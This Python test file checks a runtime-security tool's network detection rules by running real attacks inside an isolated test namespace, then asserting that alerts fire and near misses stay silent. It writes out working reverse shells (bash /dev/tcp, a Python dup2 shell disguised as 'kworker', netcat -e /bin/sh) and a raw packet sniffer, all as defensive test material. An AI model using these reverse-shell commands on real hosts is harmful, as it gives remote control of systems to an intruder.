"""The default rules about the network (rules/sentinel_rules.yaml), live: one ``sentinel run``.

Every connection stays inside a network namespace the test creates, whose loopback carries
TEST-NET addresses (192.0.2.0/24): nothing leaves the machine. The attacks are real and checked
by their effect: the remote end of a reverse shell runs a command and reads its output, a packet
socket really captures a datagram. Near misses (netcat without -e, a dup2 of a pipe, a shell
talking to loopback, an ordinary UDP socket) must not alert.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.kernel.rules_live import (
    Containers,
    LiveRun,
    busybox_rootfs,
    by_rule,
    check_rule_metadata,
    fields,
    in_netns,
    marker,
    mentions,
    netns_with,
    sentinel_run,
    wait_for,
)

pytestmark = pytest.mark.kernel
ADDR = "192.0.2.1"  # TEST-NET-1, only ever on a test namespace's loopback


@pytest.fixture(scope="module")
def run() -> Iterator[LiveRun]:
    with sentinel_run() as r:
        yield r


@pytest.fixture(scope="module")
def netns() -> Iterator[str]:
    with netns_with(ADDR) as ns:
        yield ns


# The attacker's end of a reverse shell: accepts one connection, sends a command, prints what
# comes back until the peer closes.
LISTENER = """
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2])))
s.listen()
print("ready", flush=True)
s.settimeout(60)
c, _ = s.accept()
c.sendall(sys.argv[3].encode() + b"\\n")
data = b""
try:
    while chunk := c.recv(4096):
        data += chunk
except ConnectionResetError:  # a peer that closes without reading all
    pass
print(data.decode(errors="replace"), flush=True)
"""


def listen(ns: str, port: int, command: str) -> subprocess.Popen[str]:
    p = subprocess.Popen(
        in_netns(ns, [sys.executable, "-c", LISTENER, ADDR, str(port), command]),
        stdout=subprocess.PIPE,
        text=True,
    )
    assert p.stdout is not None and p.stdout.readline().strip() == "ready"
    return p


def test_bash_reverse_shell(run: LiveRun, netns: str) -> None:
    m = marker()
    server = listen(netns, 4445, f"echo pwned-{m}; exit")
    shell = f"bash -i >& /dev/tcp/{ADDR}/4445 0>&1"
    subprocess.run(
        in_netns(netns, ["bash", "-c", shell]), stdin=subprocess.DEVNULL, capture_output=True
    )
    out, _ = server.communicate(timeout=30)
    assert f"pwned-{m}" in out  # the remote end ran a command and read its output
    redirect = wait_for(
        run,
        lambda a: (
            a["rule"] == "Standard Input or Output Redirected to a Network Socket"
            and fields(a)["fd.name"].endswith(f"{ADDR}:4445")
        ),
    )
    # The redirections of `bash -c` itself (>& makes 1 and 2, 0>&1 makes 0); the interactive
    # shell's own start-up scripts, whose output goes to the socket too, may add more.
    outer = [a for a in redirect if "/dev/tcp" in fields(a)["proc.cmdline"]]
    assert sorted(fields(a)["evt.rawres"] for a in outer) == [0, 1, 2], outer
    for a in redirect:
        assert fields(a)["proc.name"] == "bash"
        assert fields(a)["fd.type"] == "ipv4"
        check_rule_metadata(a)
    net = [
        a
        for a in by_rule(run.alerts, "Network Activity by a System Binary")
        if fields(a)["fd.name"].endswith(f"{ADDR}:4445")
    ]
    assert len(net) == 1 and fields(net[0])["evt.type"] == "connect"
    check_rule_metadata(net[0])


PY_REVERSE = """
import os, socket, subprocess, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.run(["/bin/sh", "-i"])
"""

# Near misses: dup2 of a pipe onto stdout, and a socket dup'ed to a high descriptor.
PY_NEAR = """
import os, socket, sys
r, w = os.pipe()
os.dup2(w, 1)
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
os.dup2(s.fileno(), 50)
"""


def test_renamed_python_reverse_shell_and_near_misses(
    run: LiveRun, netns: str, tmp_path: Path
) -> None:
    """The redirection is caught whatever the program calls itself: here a copy of the
    interpreter named like a kernel thread."""
    m = marker()
    disguised = tmp_path / "kworker"
    shutil.copy(sys.executable, disguised)
    server = listen(netns, 4446, f"echo py-{m}; exit")
    subprocess.run(
        in_netns(netns, [str(disguised), "-c", PY_REVERSE, ADDR, "4446"]),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=60,
    )
    out, _ = server.communicate(timeout=30)
    assert f"py-{m}" in out
    near = listen(netns, 4447, "exit")
    subprocess.run(in_netns(netns, [sys.executable, "-c", PY_NEAR, ADDR, "4447"]), check=True)
    near.communicate(timeout=30)
    rule = "Standard Input or Output Redirected to a Network Socket"
    wait_for(run, lambda a: a["rule"] == rule and fields(a)["fd.name"].endswith(f"{ADDR}:4446"))
    hits = [a for a in by_rule(run.settle(0.5), rule) if ADDR in fields(a)["fd.name"]]
    mine = [a for a in hits if fields(a)["fd.name"].endswith(f"{ADDR}:4446")]
    assert sorted(fields(a)["evt.rawres"] for a in mine) == [0, 1, 2]
    assert all(fields(a)["proc.name"] == "kworker" for a in mine)
    assert not [a for a in hits if fields(a)["fd.name"].endswith(f"{ADDR}:4447")]


def test_netcat_exec_in_container(run: LiveRun, netns: str, tmp_path: Path) -> None:
    root = busybox_rootfs(tmp_path / "rootfs", ("sh", "nc", "echo", "id"))
    containers = Containers(root, tmp_path)
    m = marker()
    server = listen(netns, 4444, f"echo nc-{m}; id -u; exit")
    res = containers.run(f"nc {ADDR} 4444 -e /bin/sh", network=f"ns:/run/netns/{netns}")
    out, _ = server.communicate(timeout=30)
    assert f"nc-{m}" in out and "0" in out.split(), (out, res.stderr)
    # Near miss: netcat without -e.
    near = listen(netns, 4448, "hello")
    containers.run(f"nc -w 2 {ADDR} 4448 < /dev/null", network=f"ns:/run/netns/{netns}")
    near.communicate(timeout=30)
    hits = wait_for(run, lambda a: a["rule"] == "Netcat Remote Command Execution")
    assert len(hits) == 1, [a["output"] for a in hits]
    f = fields(hits[0])
    # busybox's shell ran the applet by executing /proc/self/exe: the process is named "exe"
    # and its argv[0] names the applet (the rule knows both).
    assert f["proc.cmdline"].endswith(f" {ADDR} 4444 -e /bin/sh")
    assert f["proc.name"] in ("nc", "exe")
    assert f["container.id"] != "host"
    check_rule_metadata(hits[0])
    # nc's child made the connection the shell's stdin/stdout.
    redirect = [
        a
        for a in by_rule(run.settle(0.5), "Standard Input or Output Redirected to a Network Socket")
        if fields(a)["fd.name"].endswith(f"{ADDR}:4444")
    ]
    assert redirect and all(fields(a)["container.id"] == f["container.id"] for a in redirect)


SNIFF = """
import socket, sys
sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
sniffer.bind(("lo", 0))
sniffer.settimeout(10)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # near miss: an ordinary UDP socket
u.sendto(sys.argv[2].encode(), (sys.argv[1], 9999))
while sys.argv[2].encode() not in sniffer.recv(65535):
    pass
print("captured", flush=True)
"""


def test_packet_socket(run: LiveRun, netns: str) -> None:
    m = marker()
    out = subprocess.run(
        in_netns(netns, [sys.executable, "-c", SNIFF, ADDR, f"secret-{m}"]),
        capture_output=True,
        text=True,
        check=True,
        timeout=30,
    ).stdout
    assert out.strip() == "captured"  # the packet socket saw another socket's datagram
    hits = wait_for(run, lambda a: a["rule"] == "Packet Socket Opened" and mentions(a, m))
    assert len(hits) == 1, run.alerts
    f = fields(hits[0])
    assert "AF_PACKET" in f["evt.args"]
    assert f["proc.name"].startswith("python")
    check_rule_metadata(hits[0])


def test_system_binary_network_activity(run: LiveRun, netns: str) -> None:
    m = marker()
    # bash's /dev/udp: a datagram to a non-loopback address; the same to loopback (near miss).
    script = textwrap.dedent(f"""
        echo {m} > /dev/udp/{ADDR}/5353
        echo near-{m} > /dev/udp/127.0.0.1/5353
    """)
    subprocess.run(in_netns(netns, ["bash", "-c", script]), check=True)
    hits = wait_for(
        run,
        lambda a: (
            a["rule"] == "Network Activity by a System Binary"
            and fields(a)["fd.name"].endswith(f"{ADDR}:5353")
        ),
    )
    assert len(hits) == 1, [a["output"] for a in run.alerts]
    f = fields(hits[0])
    assert f["proc.name"] == "bash" and f["fd.l4proto"] == "udp"
    later = by_rule(run.settle(0.5), "Network Activity by a System Binary")
    assert not [a for a in later if "127.0.0.1:5353" in fields(a)["fd.name"]]


SERVERS = """
import socket, sys
servers = []
for port in (4449, 443):
    s = socket.socket()
    s.bind((sys.argv[1], port))
    s.listen()
    servers.append(s)
for port in (4449, 443):
    c = socket.create_connection((sys.argv[1], port))
    print(port, c.getsockname()[1], flush=True)
    c.close()
"""


def test_unexpected_outbound_connection(run: LiveRun, netns: str) -> None:
    res = subprocess.run(
        in_netns(netns, [sys.executable, "-c", SERVERS, ADDR]),
        capture_output=True,
        text=True,
        check=True,
    )
    ports = dict(line.split() for line in res.stdout.split("\n") if line.strip())
    rule = "Unexpected Outbound Connection"
    wait_for(run, lambda a: a["rule"] == rule and fields(a)["fd.sport"] == 4449)
    hits = [a for a in by_rule(run.settle(0.5), rule) if fields(a).get("fd.sip") == ADDR]
    # Port 443 is a common service port: that connect raises nothing.
    assert not [a for a in hits if fields(a)["fd.sport"] == 443]
    mine = [a for a in hits if fields(a)["fd.name"] == f"{ADDR}:{ports['4449']}->{ADDR}:4449"]
    assert len(mine) == 1, hits
    f = fields(mine[0])
    assert f["fd.l4proto"] == "tcp"
    assert f["proc.name"].startswith("python")
    check_rule_metadata(mine[0])
